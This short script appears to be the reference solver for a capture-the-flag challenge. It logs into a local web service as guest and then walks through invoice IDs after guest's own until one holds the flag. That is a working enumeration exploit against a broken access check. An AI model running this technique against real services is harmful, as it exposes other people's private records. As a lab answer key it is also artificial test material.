#!/bin/sh
# Reference solver: log in as guest, then walk the invoice numbers after guest's own.
python3 - <<'PY'
import re, urllib.parse, urllib.request
login = urllib.request.urlopen("http://127.0.0.1:8082/login", data=urllib.parse.urlencode({"user": "guest", "password": "guest"}).encode())
cookie = login.headers["Set-Cookie"].split(";")[0]
last = max(int(n) for n in re.findall(r"\d+", login.read().decode().split("invoices:")[1]))
for number in range(last + 1, last + 60):
    request = urllib.request.Request(f"http://127.0.0.1:8082/invoice?id={number}", headers={"Cookie": cookie})
    text = urllib.request.urlopen(request).read().decode()
    if "FLAG{" in text:
        print(text)
        break
PY
